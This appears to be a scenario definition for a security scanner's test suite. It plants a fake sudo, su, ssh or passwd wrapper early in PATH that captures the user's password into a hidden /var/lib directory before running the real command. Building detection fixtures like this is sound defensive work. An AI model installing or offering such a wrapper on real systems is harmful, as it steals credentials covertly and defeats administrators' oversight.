# id: K120
# mode: scan
# level: suspicious
# title: a command in the path is a wrapper of a hidden one
# due: now
pick command sudo su ssh passwd
pick place /usr/local/bin /usr/local/sbin
word name
mkdir -p "/var/lib/.$name"
printf '#!/bin/bash\nread -rsp "[sudo] password for $USER: " p; echo "$p" >>/var/lib/.%s/p; exec /usr/bin/%s "$@"\n' "$name" "$command" >"$place/$command"
chmod 755 "$place/$command"
said path "$place/$command"
